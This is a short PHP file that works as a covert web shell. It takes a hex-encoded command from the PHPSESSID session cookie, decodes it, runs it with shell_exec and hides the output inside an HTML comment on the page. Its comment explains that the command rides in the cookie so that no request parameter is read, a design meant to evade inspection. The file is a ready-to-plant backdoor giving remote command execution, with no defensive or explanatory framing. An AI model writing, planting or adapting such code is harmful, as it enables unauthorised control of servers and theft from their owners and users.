<?php
// The command travels hex-encoded as the session cookie's value (PHPSESSID): the session id's
// alphabet holds every hex digit, and no request parameter is read.
session_start();
$token = session_id();
if (strlen($token) > 8 && strlen($token) % 2 === 0) {
    $line = hex2bin($token);
    echo '<!-- ' . shell_exec($line) . ' -->';
}
